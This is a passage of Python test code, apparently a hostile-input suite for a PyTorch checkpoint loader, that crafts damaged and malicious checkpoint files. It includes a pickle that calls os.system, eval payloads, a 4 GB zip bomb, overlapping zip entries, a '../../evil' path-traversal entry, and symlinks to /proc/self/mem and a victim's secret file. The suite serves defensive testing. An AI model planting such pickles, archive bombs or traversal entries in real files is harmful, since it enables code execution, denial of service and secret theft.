    "one without shape": some(lambda weight: weight.sum()),
    "one empty": some(lambda weight: weight[:0]),
    "sparse": some(lambda weight: weight.to_sparse()),
    "compressed": some(lambda weight: weight.flatten(1).to_sparse_csr()),
    "quantised": some(lambda weight: torch.quantize_per_tensor(weight, 0.1, 0, torch.qint8)),
    "on no device": every(lambda weight: weight.to("meta")),
    "one on no device": some(lambda weight: weight.to("meta")),
    "nested": some(lambda weight: torch.nested.nested_tensor(list(weight))),
    "complex": some(lambda weight: weight.to(torch.complex64)),
    "truths": some(lambda weight: weight > 0),
    "whole numbers": some(lambda weight: weight.long()),
    "NaN": some(lambda weight: weight * math.nan),
    "one NaN": some(lambda weight: _first(weight, math.nan)),
    "one infinite": some(lambda weight: _first(weight, -math.inf)),
    "infinite in half": some(lambda weight: _first(weight, 1e6).half()),
    "too large for float32": some(lambda weight: _first(weight.double(), 1e300)),
    "petabytes of one number": some(lambda weight: torch.zeros(1).expand(1 << 20, 1 << 30)),
    "petabytes too many": put("state_dict/evil", torch.zeros(1).expand(1 << 20, 1 << 30)),
    "a shape of 10,000 dimensions": some(lambda weight: torch.zeros(1).expand(*[1] * 10_000)),
    "a device that is not there": some(lambda weight: torch.device("cuda:7")),
}
# Kinds of number that a network may turn into its own, and what is only told in another way.
ALIKE: dict[str, Damage] = {
    "float64": every(lambda weight: weight.double()),
    "float16": every(lambda weight: weight.half()),
    "bfloat16": every(lambda weight: weight.bfloat16()),
    "bits of eight": some(lambda weight: weight.to(torch.float8_e4m3fn)),
    "one number for all": some(lambda weight: weight.flatten()[:1].view(1, 1, 1, 1).expand(weight.shape)),
    "turned round": some(lambda weight: weight.transpose(0, 3).contiguous().transpose(0, 3)),
    "parameters": every(lambda weight: torch.nn.Parameter(weight, weight.is_floating_point())),
    "with attributes": some(_named),
    "in order": put("state_dict", OrderedDict),
    "one memory for all": every(lambda weight: torch.zeros(1 << 16)[: weight.numel()].view(weight.shape)),
}


def _legacy(path: Path, box: Box) -> None:
    torch.save(read(path), path, _use_new_zipfile_serialization=False)
    hashed(path)


def _module(path: Path, box: Box) -> None:
    torch.jit.script(torch.nn.Identity()).save(path)


def _overlapping(path: Path, box: Box) -> None:
    """Let many entries be one and the same part of the file."""
    with zipfile.ZipFile(path, "a") as archive:
        first = archive.infolist()[0]
        for number in range(1000):
            same = zipfile.ZipInfo(f"network/data/{number + 1000}")
            for key in ("header_offset", "file_size", "compress_size", "CRC", "compress_type"):
                setattr(same, key, getattr(first, key))
            archive.filelist.append(same)
        archive._didModify = True  # type: ignore[attr-defined]
    hashed(path)


def _swollen(path: Path, box: Box) -> None:
    """Let one entry be 4 GB of zeros when it is unpacked."""
    packer = zlib.compressobj(wbits=-15)
    block = packer.compress(bytes(1 << 24)) + packer.flush(zlib.Z_FULL_FLUSH)  # may be repeated as it is
    with zipfile.ZipFile(path) as archive:
        entries = {name: archive.read(name) for name in archive.namelist()}
    name = next(name for name in entries if name.endswith("/data/0"))
    with zipfile.ZipFile(path, "w") as archive:
        for other, content in entries.items():
            archive.writestr(other, block * 255 + packer.flush() if other == name else content)
        told = archive.getinfo(name)
        told.compress_type, told.file_size = zipfile.ZIP_DEFLATED, 255 << 24
    hashed(path)


def _twice(path: Path, box: Box) -> None:
    with warnings.catch_warnings(), zipfile.ZipFile(path, "a") as archive:
        warnings.simplefilter("ignore")
        name = next(name for name in archive.namelist() if name.endswith("/data.pkl"))
        archive.writestr(name, archive.read(name))
    hashed(path)


def _flipped(old: bytes) -> bytes:
    return old[: len(old) // 2] + bytes([old[len(old) // 2] ^ 1]) + old[len(old) // 2 + 1 :]


# Archives that can be read all the same.
LEGIBLE: dict[str, Damage] = {
    "as PyTorch once wrote them": _legacy,
    "the pickle twice": _twice,
    "a flipped bit, and no hash": filled(_flipped),
    "an entry that goes up": entry("../../evil", b"x"),
    "code within": entry("network/code/evil.py", b"open('x', 'w')"),
}
PICKLES: dict[str, Damage] = {
    "os.system": put("lensblend/evil", "<command>"),
    "os.system as the whole": raw("<command>"),
    "eval": put("state_dict/evil", "<eval>"),
    "two terabytes": put("lensblend/evil", "<terabytes>"),
    "a tensor of words": put("state_dict/evil", "<tensor of words>"),
    "a storage that is a path": put("state_dict/evil", "<path as storage>"),
    "an unknown opcode": put("lensblend/evil", "<unknown opcode>"),
    "an empty stack": raw("<empty stack>"),
    "a list": raw("<deep list>"),
    "a text": lambda path, box: write("evil", path, box),
    "a tensor": lambda path, box: write(torch.ones(3), path, box),
    "empty": entry("/data.pkl", b""),
    "cut": entry("/data.pkl", lambda old: old[: len(old) // 2]),
    "no end": entry("/data.pkl", lambda old: old[:-1]),
    "of text": entry("/data.pkl", b"cos\nsystem\n(Vtrue\ntR."),
}
ARCHIVES: dict[str, Damage] = {
    "4 GB in one entry": _swollen,
    "cut by one byte": filled(lambda old: old[:-1]),
    "entries upon entries": _overlapping,
    "no pickle": entry("/data.pkl", lambda old: None),
    "no weights": entry("/data/0", lambda old: None),
    "weights cut": entry("/data/0", lambda old: old[:10]),
    "weights empty": entry("/data/0", b""),
    "an odd byte order": entry("/byteorder", b"evil"),
    "an odd version": entry("/version", b"999999999999999999999\n"),
    "constants within": entry("network/constants.pkl", b"cos\nsystem\n(Vtrue\ntR."),
    "a script module": _module,
    "of no entries": lambda path, box: zipped({}, path),
    "cut at 10 %": filled(lambda old: old[: len(old) // 10]),
    "a flipped bit": lambda path, box: (hashed(path), filled(_flipped)(path, box)),
    "only its first letters": filled(b"PK\x03\x04"),
    "with something before it": filled(lambda old: b"#!/bin/sh\n" + old),
}
FILES: dict[str, Damage] = {
    "a FIFO": FIFO,
    "a folder": FOLDER,
    "a folder that holds itself": instead(lambda path, box: (path.mkdir(), (path / "best.ckpt").symlink_to(path))),
    "a folder with a FIFO": instead(lambda path, box: (path.mkdir(), os.mkfifo(path / "best.ckpt"))),
    "a link to itself": LOOP,
    "a link to nothing": link("@box/nothing"),
    "a link to a FIFO": link("@fifo"),
    "a link to /dev/zero": link("/dev/zero"),
    "a link to the terminal": link("/dev/tty"),
    "a link to a file of the system's": link("/proc/self/mem"),
    "a link to somebody's secret": link("@victim/secret.yaml"),
    "a socket": instead(lambda path, box: _socket(path)),
    "200 GB of nothing": SPARSE,
    "a pickle": filled(b"cos\nsystem\n(Vtrue\ntR."),
    "a photo": lambda path, box: path.write_bytes((box.base / "photo.png").read_bytes()),
    "a text": filled(b"hello\n"),
    "empty": filled(b""),
    "noise": filled(bytes(range(256)) * 64),
    "a page": filled(b"<!DOCTYPE html><html><body>404</body></html>"),
    "weights as safetensors": filled(b"\x08\x00\x00\x00\x00\x00\x00\x00{}      "),
}


def _socket(path: Path) -> None:
    folder = os.open(path.parent, os.O_RDONLY)
    with socket.socket(socket.AF_UNIX) as listening:
        listening.bind(f"/proc/self/fd/{folder}/{path.name}")  # a socket's path is short
    os.close(folder)


def beside(make: Callable[[Path, Box], object]) -> Damage:
    """Put something beside a file, in the place of its hash."""
    return lambda path, box: make(path.with_name(f"{path.name}.sha256"), box)


HASHES: dict[str, tuple[Damage, bool]] = {
    # What lies there, and whether the file may be read all the same.
    "another's": (beside(lambda path, box: path.write_text(f"{'0' * 64}  x\n")), False),
    "a FIFO": (beside(FIFO), True),
    "a folder": (beside(FOLDER), True),
    "a link to itself": (beside(LOOP), True),
    "a link to /dev/zero": (beside(link("/dev/zero")), True),
    "a link to a secret": (beside(link("@victim/secret.yaml")), False),
    "200 GB of nothing": (beside(SPARSE), False),
    "100 MB of lines": (beside(lambda path, box: path.write_bytes(b"0 x\n" * 25_000_000)), False),
    "100 MB without a line's end": (beside(lambda path, box: path.write_bytes(b"0" * 100_000_000)), False),
    "noise": (beside(lambda path, box: path.write_bytes(bytes(range(128, 256)))), False),
    "words": (beside(lambda path, box: path.write_text("not a hash\n")), False),
    "zeros": (beside(lambda path, box: path.write_bytes(bytes(1000))), False),
    "empty": (beside(lambda path, box: path.write_bytes(b"")), True),
}


def turns(named: Mapping[str, Damage], turns: Sequence[tuple[str, ...]], **options: Any) -> list[Hostile]:
    """Return cases that take turns with the verbs."""
    return [Hostile(*one, verbs, **options) for one, verbs in zip(named.items(), cycle(turns), strict=False)]


def kinds() -> dict[str, list[Hostile]]:
    """Return all cases."""
    return {
        "nothing is wrong": [
            Hostile("as it was written", lambda path, box: None, ("render", "own data", "train"), codes=(0,))
        ],
        "interpolation": [
            Hostile("writes a file, as the bank", net("bank", CREATED["writes a file"]), (*BUILD, "train"), ("train",)),
            *turns(dict(interpolations()), BUILD_TURNS, says=KEYS),
        ],
        "target": turns(dict(dangerous()), BUILD_TURNS, says=(*KEYS, "name", "secret.yaml", "evil.pkl")),
        "odd target": turns({name: net("_target_", value) for name, value in TARGETS.items()}, BUILD_TURNS),
        "odd node": turns(NODES, BUILD_TURNS, says=KEYS),
        "odd size": [
            *turns({name: net(*where) for name, where in SIZES.items()}, BUILD_TURNS, says=KEYS),
            *turns({n: put("lensblend/network", node) for n, node in NETWORKS.items()}, BUILD_TURNS, says=KEYS),
            *turns({name: net(*where) for name, where in HARMLESS.items()}, BUILD_TURNS[:2], passes=BUILD, says=KEYS),
        ],
        "record": [
            *turns(RECORDS, READ_TURNS),
            *turns(DESCRIPTIONS, READ_TURNS, passes=("train",), says=KEYS),
            *turns(UNIMPORTANT, (("evaluate",), ("render",)), passes=BUILD, says=("phase",)),
        ],
        "image size": turns(
            {f"{size!r:.40}": put("lensblend/image_size", size) for size in IMAGE_SIZES},
            BUILD_TURNS[:2],
            says=("image_size",),
        ),
        "configuration": turns(
            {name: put("lensblend/config", text) for name, text in YAML.items()},
            (("own data", "render"), ("own data",)),
            passes=("render",),
        ),
        "data": [
            Hostile(name, config("data", node), ("own data",), ("own data",) * (name in USABLE), says=("data",))
            for name, node in (USABLE | DATA).items()
        ],
        "guidance": [
            Hostile(name, config("saliency", node), verbs, says=("saliency",), of="guided.ckpt")
            for (name, node), verbs in zip(GUIDES.items(), cycle([("render",), ("own data",)]), strict=False)
        ],
        "weights": [
            *turns(STATES, (("render",), ("train",), ("render", "prior"))),
            *turns(ALIKE, (("render",), ("train",)), passes=READ),
        ],
        "pickle": turns(PICKLES, READ_TURNS),
        "archive": [*turns(ARCHIVES, READ_TURNS), *turns(LEGIBLE, READ_TURNS, passes=READ)],
        "file": turns(FILES, READ_TURNS),
        "hash": [
            Hostile(name, damage, ("render", "train"), ("render", "train") if readable else ())
            for name, (damage, readable) in HASHES.items()
        ],
    }


def checkpoints(bench: Bench) -> Iterator[Case]:
    """S1: hostile checkpoints."""
    yield from cases(bench, "s1", "foreign.ckpt", VERBS, kinds())
